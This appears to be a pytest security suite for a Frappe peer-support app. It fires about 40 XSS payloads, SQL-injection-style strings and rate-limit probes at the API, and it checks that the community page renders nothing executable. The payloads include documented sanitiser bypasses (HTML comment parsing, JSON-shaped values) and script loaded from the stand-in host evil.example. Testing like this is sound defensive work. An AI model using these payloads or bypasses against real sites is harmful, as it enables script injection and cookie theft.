"""Bad input over HTTP: script in answers and descriptions never reaches a browser as markup that
runs; wrong, missing, oversized or unknown input is a 4xx with a message, never a 500; scripts that
post too fast are slowed down (429).

What runs is decided the way a browser decides it: each HTML string the server stores or returns is
parsed by Chromium (a <template>, whose content never runs) and searched for script elements, event
handler attributes and javascript:/data: URLs; the community page itself is opened and must raise no
dialog. Literal checks on the text ("<script", on...= and javascript: inside a tag) come on top.
"""

import json
import re
import uuid

import pytest
from conftest import ARTIFACTS, PASSWORD, Client, add_portal_user, create, logged_in_page, message

API = "/api/method/peer_support.api"

# Frappe 15 sanitises with bleach only when Python's html.parser finds a tag, and never a value that
# parses as JSON (frappe.utils.html_utils.sanitize_html). Python 3.11's parser reads "<!-->" as the
# start of a comment running to the next "-->"; browsers (HTML5) close the comment at once, so the
# <img> after it is real. These payloads get through to the community page; see the report of issue 8.
COMMENT_BYPASS = [
	"<!--><img src=x onerror=alert(1)>--> Restart the spooler.",
	"<!---><img src=x onerror=alert(2)>--> Restart the spooler.",
]
JSON_BYPASS = [  # as a ticket description; as an answer they are Markdown, made HTML and then sanitised
	'["<img src=x onerror=alert(3)>"]',
	'{"fix": "<svg onload=alert(4)>"}',
]
PAYLOADS = [
	"<script>alert(1)</script><p>Restart the spooler.</p>",
	"<SCRIPT SRC=//evil.example/xss.js></SCRIPT><p>Restart the spooler.</p>",
	"<img src=x onerror=alert(1)><p>Restart the spooler.</p>",
	'<img src="x" onerror  =  "alert(document.cookie)"><p>Restart the spooler.</p>',
	"<svg onload=alert(1)><text>Restart the spooler.</text></svg>",
	"<svg><script>alert(1)</script><text>Restart</text></svg>",
	'<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">Restart</text></a></svg>',
	"<body onload=alert(1)><p>Restart the spooler.</p></body>",
	'<iframe src="javascript:alert(1)"></iframe><p>Restart the spooler.</p>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe><p>Restart the spooler.</p>',
	'<a href="javascript:alert(1)">Restart the spooler</a>',
	'<a href="JaVaScRiPt:alert(1)">Restart the spooler</a>',
	'<a href="&#106;avascript:alert(1)">Restart the spooler</a>',
	'<a href="java\tscript:alert(1)">Restart the spooler</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Restart the spooler</a>',
	'<div style="background:url(javascript:alert(1))">Restart the spooler</div>',
	'<div style="width: expression(alert(1))">Restart the spooler</div>',
	'<object data="javascript:alert(1)">Restart the spooler</object>',
	'<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>Restart the spooler.</p>',
	"<details open ontoggle=alert(1)>Restart the spooler</details>",
	"<input autofocus onfocus=alert(1)><p>Restart the spooler.</p>",
	'<p onmouseover="alert(1)">Restart the spooler</p>',
	'<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">Restart</button></form>',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Restart the spooler.</p>',
	'<video><source onerror="alert(1)"></video><p>Restart the spooler.</p>',
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>Restart",
	"<scr<script>ipt>alert(1)</scr</script>ipt><p>Restart the spooler.</p>",
	"<p>Restart</p><style>p { background: url(javascript:alert(1)) }</style>",
	"Click [here](javascript:alert(1)) to restart the spooler",
	"See ![diagram](javascript:alert(1)) before restarting",
	"Inline <img src=x onerror=alert(1)> in Markdown",
	"Try this:\n\n<script>alert(1)</script>",
	"Autolink <javascript:alert(1)> here",
	"Reference [fix][1]\n\n[1]: javascript:alert(1)",
	"Encoded [fix](jav&#x09;ascript:alert(1)) link",
	"Data [fix](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) link",
	"**Bold** then <a href='javascript:alert(1)'>raw HTML</a> in Markdown",
	"Markdown <svg onload=alert(1)> and an SVG",
	"Markdown <iframe src=//evil.example></iframe> and a frame",
	'"Quoted" [link](javascript&colon;alert(1)) in Markdown',
	*COMMENT_BYPASS,
	*JSON_BYPASS,
]
KNOWN_ANSWER_BUGS: set = set()  # fixed: answers are sanitised with always_sanitize
KNOWN_DESCRIPTION_BUGS: set = set()  # fixed: descriptions too

# Run in Chromium on each HTML string: what would run if the page put it into innerHTML. (Text that
# only names javascript: where no browser runs it, such as CSS inside a <style> element or a <meta>
# without http-equiv, is inert and not counted.)
ANALYSE = """(html) => {
	const template = document.createElement("template");
	template.innerHTML = html;
	const found = [];
	const urls = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "background", "poster",
	              "style"];
	for (const el of template.content.querySelectorAll("*")) {
		const tag = el.localName;
		if (["script", "iframe", "frame", "object", "embed", "base"].includes(tag)) found.push(`<${tag}>`);
		if (tag === "meta" && el.hasAttribute("http-equiv")) found.push("<meta http-equiv>");
		for (const attr of el.attributes) {
			const name = attr.name.toLowerCase();
			const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
			if (name.startsWith("on")) found.push(`${tag}[${name}]`);
			if (urls.includes(name) && /(java|vb)script:/.test(value)) found.push(`${tag}[${name}=javascript:]`);
			if (urls.includes(name) && value.startsWith("data:")) found.push(`${tag}[${name}=data:]`);
		}
	}
	return found;
}"""
TAG = re.compile(r"<[^>]*>")


def literal(html: str) -> list[str]:
	"""The text itself: "<script", an on...= attribute or javascript: inside a tag."""
	found = ["<script"] if re.search(r"<\s*script", html, re.I) else []
	for tag in TAG.findall(html):
		if re.search(r"\son\w+\s*=", tag, re.I):
			found.append(f"on...= in {tag[:60]}")
		inert = tag.lower().startswith("<meta") and "http-equiv" not in tag.lower()
		if "javascript:" in tag.lower() and not inert:
			found.append(f"javascript: in {tag[:60]}")
	return found


def record_count(key: str, value: int) -> None:
	"""Add a count to $PEER_SUPPORT_ARTIFACTS/trust-counts.json, which the trust modules share."""
	ARTIFACTS.mkdir(parents=True, exist_ok=True)
	path = ARTIFACTS / "trust-counts.json"
	counts = json.loads(path.read_text()) if path.exists() else {}
	path.write_text(json.dumps(counts | {key: value}, indent=1, sort_keys=True))


def portal_user(admin, run: str, first_name: str, customer: str) -> Client:
	email = f"{first_name.lower()}.{run}@input.example"
	add_portal_user(admin, email, first_name, customer)
	client = Client(admin.base).login(email, PASSWORD)
	client.email = email
	return client


@pytest.fixture(scope="module")
def site(admin):
	"""Jeff's two shared tickets (one for the answers the app must stop, one for the known bypasses),
	four colleagues who answer (a dozen answers each, under the rate limit) and a colleague who reads."""
	run = uuid.uuid4().hex[:8]
	customer = create(admin, "HD Customer", {"customer_name": f"Input Acme {run}"})["name"]
	jeff = portal_user(admin, run, "Jeff", customer)
	authors = [portal_user(admin, run, name, customer) for name in ("Ann", "Ben", "Cat", "Dan")]
	reader = portal_user(admin, run, "Rea", customer)
	tickets = {}
	for kind in ("answers", "bypasses"):
		name = str(
			create(
				admin,
				"HD Ticket",
				{
					"subject": f"Input {run} {kind}",
					"priority": "Low",
					"raised_by": jeff.email,
					"customer": customer,
					"description": "<p>The spooler hangs</p>",
				},
			)["name"]
		)
		assert jeff.post(f"{API}.tickets.share", data={"ticket": name}).status_code == 200
		tickets[kind] = name
	return {
		"run": run,
		"customer": customer,
		"jeff": jeff,
		"authors": authors,
		"reader": reader,
		"tickets": tickets,
		"tried": {"answers": 0, "descriptions": 0},
		"description_tickets": [],
	}


@pytest.fixture(scope="module")
def parser(browser):
	context = browser.new_context()
	page = context.new_page()
	yield page
	context.close()


def unsafe(parser, html: str | None) -> list[str]:
	if not html:
		return []
	return parser.evaluate(ANALYSE, html) + literal(html)


def params(payloads, known_bugs):
	reason = "BUG (issue 8 report): Frappe's sanitiser lets this through and the community page runs it"
	return [
		pytest.param(
			p, id=f"{i:02d}", marks=[pytest.mark.xfail(strict=True, reason=reason)] if p in known_bugs else []
		)
		for i, p in enumerate(payloads)
	]


@pytest.mark.parametrize("payload", params(PAYLOADS, KNOWN_ANSWER_BUGS))
def test_an_answer_never_carries_markup_that_runs(admin, site, parser, payload):
	index = PAYLOADS.index(payload)
	ticket = site["tickets"]["bypasses" if payload in KNOWN_ANSWER_BUGS else "answers"]
	site["tried"]["answers"] += 1
	response = site["authors"][index % 4].post(
		f"{API}.answers.create", data={"ticket": ticket, "body": payload}
	)
	assert response.status_code == 200, response.text
	answer = response.json()["message"]
	stored = admin.get(f"/api/resource/Peer Answer/{answer['name']}").json()["data"]["body"]
	view = site["reader"].get(f"{API}.tickets.get", params={"ticket": ticket})
	assert view.status_code == 200, view.text
	served = {a["name"]: a["body"] for a in view.json()["message"]["answers"]}[answer["name"]]
	problems = {
		where: unsafe(parser, html)
		for where, html in (("stored", stored), ("returned on create", answer["body"]), ("served", served))
	}
	assert not any(problems.values()), problems


@pytest.mark.parametrize("payload", params(PAYLOADS, KNOWN_DESCRIPTION_BUGS))
def test_a_shared_description_never_carries_markup_that_runs(admin, site, parser, payload):
	site["tried"]["descriptions"] += 1
	name = str(
		create(
			admin,
			"HD Ticket",
			{
				"subject": f"Input {site['run']} description",
				"priority": "Low",
				"raised_by": site["jeff"].email,
				"customer": site["customer"],
				"description": payload,
			},
		)["name"]
	)
	site["description_tickets"].append((name, payload in KNOWN_DESCRIPTION_BUGS))
	assert site["jeff"].post(f"{API}.tickets.share", data={"ticket": name}).status_code == 200
	view = site["reader"].get(f"{API}.tickets.get", params={"ticket": name})
	assert view.status_code == 200, view.text
	assert not unsafe(parser, view.json()["message"]["description"]), view.json()["message"]["description"]


def dialogs_on_pages(browser, client, tickets: list[str]) -> dict[str, list[str]]:
	"""Open each community ticket page; the dialogs (alert, confirm, prompt) any script raised."""
	page, found = logged_in_page(browser, client), {}
	page.on(
		"dialog", lambda dialog: (found.setdefault(page.url, []).append(dialog.message), dialog.dismiss())
	)
	for ticket in tickets:
		page.goto(f"{client.base}/community/{ticket}")
		page.locator("#ps-main h1").first.wait_for(timeout=30_000)
		page.wait_for_timeout(300)  # event handlers (onerror of a broken image) fire right after rendering
	page.context.close()
	return found


def test_the_community_page_runs_none_of_the_stopped_payloads(browser, site):
	tickets = [site["tickets"]["answers"]] + [name for name, bug in site["description_tickets"] if not bug]
	assert dialogs_on_pages(browser, site["reader"], tickets) == {}


def test_the_community_page_runs_none_of_the_known_bypasses(browser, site):
	tickets = [site["tickets"]["bypasses"]] + [name for name, bug in site["description_tickets"] if bug]
	assert dialogs_on_pages(browser, site["reader"], tickets) == {}


def test_payload_count(site):
	tried = site["tried"]["answers"] + site["tried"]["descriptions"]
	print(f"trust input: {tried} payloads tried ({len(PAYLOADS)} distinct, as answers and descriptions)")
	record_count("trust_input_payloads", tried)
	assert len(PAYLOADS) >= 20


@pytest.fixture(scope="module")
def target(site):
	"""An answer of the reader's on Jeff's ticket (the reader may edit it), and one of another colleague's."""
	ticket = site["tickets"]["answers"]
	mine = site["reader"].post(
		f"{API}.answers.create", data={"ticket": ticket, "body": "<p>Clear the queue.</p>"}
	)
	theirs = site["authors"][0].post(
		f"{API}.answers.create", data={"ticket": ticket, "body": "<p>Reboot.</p>"}
	)
	assert mine.status_code == 200 and theirs.status_code == 200, (mine.text, theirs.text)
	return {
		"ticket": ticket,
		"mine": mine.json()["message"]["name"],
		"theirs": theirs.json()["message"]["name"],
	}


LONG = "<p>" + "x" * 19_994 + "</p>"  # 20 001 characters
# (who, method, HTTP verb, arguments, expected status or None for any 4xx, a word of the message)
BAD_INPUT = [
	("reader", "answers.create", "post", {"ticket": "{ticket}", "body": LONG}, 417, "longer than 20000"),
	(
		"reader",
		"answers.create",
		"post",
		{"ticket": "{ticket}", "body": "y" * 20_001},
		417,
		"longer than 20000",
	),
	("reader", "answers.create", "post", {"ticket": "{ticket}", "body": ""}, 417, "empty"),
	("reader", "answers.create", "post", {"ticket": "{ticket}", "body": "<p> &nbsp; </p>"}, 417, "empty"),
	("reader", "answers.create", "post", {"ticket": "{ticket}"}, 417, "empty"),
	("reader", "answers.create", "post", {"body": "<p>Reboot</p>"}, 417, "is required"),
	("reader", "answers.create", "post", {"ticket": "999999999", "body": "<p>Reboot</p>"}, 404, "not found"),
	("reader", "answers.create", "post", {"ticket": "1 OR 1=1", "body": "<p>Reboot</p>"}, 404, "not found"),
	("reader", "answers.create", "get", {"ticket": "{ticket}", "body": "<p>Reboot</p>"}, None, "not"),
	("reader", "answers.update", "post", {"answer": "{mine}", "body": LONG}, 417, "longer than 20000"),
	("reader", "answers.update", "post", {"answer": "{mine}", "body": ""}, 417, "empty"),
	("reader", "answers.update", "post", {"body": "<p>Reboot</p>"}, 417, "is required"),
	(
		"reader",
		"answers.update",
		"post",
		{"answer": "no-such-answer", "body": "<p>Reboot</p>"},
		404,
		"not found",
	),
	("reader", "answers.vote", "post", {"answer": "{theirs}", "value": "abc"}, None, "value"),
	("reader", "answers.vote", "post", {"answer": "{theirs}", "value": "2"}, 417, "A vote is 1"),
	("reader", "answers.vote", "post", {"answer": "{theirs}"}, 417, "A vote is 1"),
	("reader", "answers.vote", "post", {"value": "1"}, 417, "is required"),
	("reader", "answers.vote", "post", {"answer": "no-such-answer", "value": "1"}, 404, "not found"),
	("reader", "answers.flag", "post", {"answer": "no-such-answer"}, 404, "not found"),
	("reader", "answers.flag", "post", {}, 417, "is required"),
	(
		"jeff",
		"answers.accept",
		"post",
		{"answer": "{theirs}", "feedback": "No such option"},
		404,
		"not found",
	),
	("jeff", "answers.accept", "post", {}, 417, "is required"),
	("jeff", "answers.unaccept", "post", {"answer": "no-such-answer"}, 404, "not found"),
	("admin", "answers.hide", "post", {"answer": "{theirs}", "reason": "  "}, 417, "Say why"),
	("admin", "answers.endorse", "post", {"answer": "no-such-answer"}, 404, "not found"),
	("reader", "tickets.get", "get", {}, 417, "is required"),
	("reader", "tickets.get", "get", {"ticket": "999999999"}, 404, "not found"),
	("reader", "tickets.get", "get", {"ticket": "x' OR '1'='1"}, 404, "not found"),
	(
		"jeff",
		"tickets.share",
		"post",
		{"ticket": "{ticket}", "visibility": "Everyone"},
		417,
		"Visibility must be",
	),
	("reader", "tickets.affected", "post", {"ticket": "{ticket}", "affected": "maybe"}, None, "affected"),
	("reader", "tickets.follow", "post", {}, 417, "is required"),
	("reader", "community.feed", "get", {"page": "x"}, None, "page"),
	("reader", "community.feed", "get", {"page": "0"}, 417, "Page must be"),
	("reader", "community.feed", "get", {"page_size": "1000"}, 417, "Page must be"),
	("reader", "community.feed", "get", {"filter": "everything"}, 417, "Filter must be"),
	("reader", "community.deflect", "post", {"ticket": "{ticket}"}, 417, "is required"),
	(
		"reader",
		"community.deflect",
		"post",
		{"query": "printer", "ticket": "{ticket}", "article": "x"},
		417,
		"one of",
	),
	(
		"reader",
		"community.deflect",
		"post",
		{"query": "printer", "article": "no-such-article"},
		404,
		"not found",
	),
	("reader", "community.sharing", "get", {"ticket": "999999999"}, 404, "not found"),
	("reader", "profiles.leaderboard", "get", {"limit": "x"}, None, "limit"),
	("reader", "profiles.leaderboard", "get", {"period": "century"}, 417, "Period must be"),
	("reader", "profiles.update", "post", {"involvement": "Sometimes"}, 417, "Involvement must be"),
	("reader", "profiles.update", "post", {"topics": '["No such topic"]'}, 404, "Unknown topic"),
	("reader", "profiles.get", "get", {"user": "nobody@nowhere.example"}, 404, "not found"),
]


@pytest.mark.parametrize(
	"who, method, verb, data, status, words",
	BAD_INPUT,
	ids=[f"{i:02d}-{case[1]}" for i, case in enumerate(BAD_INPUT)],
)
def test_bad_input_is_a_4xx_with_a_message_never_a_500(
	admin, site, target, who, method, verb, data, status, words
):
	client = admin if who == "admin" else site[who]
	values = {key: value.format(**target) if isinstance(value, str) else value for key, value in data.items()}
	url = f"{API}.{method}"
	response = client.post(url, data=values) if verb == "post" else client.get(url, params=values)
	assert 400 <= response.status_code < 500, response.text[:500]
	if status:
		assert response.status_code == status, response.text[:500]
	assert words.lower() in message(response).lower(), message(response)


def test_a_json_body_of_the_wrong_shape_is_a_4xx(site, target):
	response = site["reader"].post(
		f"{API}.answers.create", json={"ticket": target["ticket"], "body": {"html": "x"}}
	)
	assert 400 <= response.status_code < 500, response.text[:500]
	assert message(response)


# services.rate_limits.LIMITS, per user and 10 minutes (no site override on a test site)
RATE_LIMITS = {"create": 20, "vote": 120, "flag": 20, "ask": 60}


def test_answering_too_fast_is_refused_with_429_for_that_user_only(admin, site, target):
	fast = portal_user(admin, site["run"], "Fay", site["customer"])
	for i in range(RATE_LIMITS["create"]):
		response = fast.post(
			f"{API}.answers.create", data={"ticket": target["ticket"], "body": f"<p>Tip {i}</p>"}
		)
		assert response.status_code == 200, response.text[:300]
	over = fast.post(f"{API}.answers.create", data={"ticket": target["ticket"], "body": "<p>One more</p>"})
	assert over.status_code == 429, over.text[:300]
	assert "rate limit" in message(over)
	# counted per user, not per address: a colleague on the same address still answers
	other = site["authors"][1].post(
		f"{API}.answers.create", data={"ticket": target["ticket"], "body": "<p>Mine</p>"}
	)
	assert other.status_code == 200, other.text[:300]


@pytest.mark.parametrize("method, data", [("vote", {"value": 1}), ("flag", {"reason": "Spam"})])
def test_voting_and_flagging_too_fast_is_refused_with_429(admin, site, target, method, data):
	"""Repeats are refused (409) and still counted: a script cannot probe faster than the limit."""
	fast = portal_user(admin, site["run"], f"Gil{method}", site["customer"])
	statuses = [
		fast.post(f"{API}.answers.{method}", data={"answer": target["theirs"], **data}).status_code
		for _ in range(RATE_LIMITS[method])
	]
	assert statuses == [200] + [409] * (RATE_LIMITS[method] - 1)
	over = fast.post(f"{API}.answers.{method}", data={"answer": target["theirs"], **data})
	assert over.status_code == 429 and "rate limit" in message(over), over.text[:300]


def test_opening_the_ask_page_too_often_is_refused_with_429(admin, site):
	"""Each opening of the Ask page records an Ask session; a script cannot fill the report with them."""
	fast = portal_user(admin, site["run"], "Ask", site["customer"])
	statuses = [fast.post(f"{API}.community.ask_started").status_code for _ in range(RATE_LIMITS["ask"])]
	assert statuses == [200] * RATE_LIMITS["ask"]
	over = fast.post(f"{API}.community.ask_started")
	assert over.status_code == 429 and "rate limit" in message(over), over.text[:300]
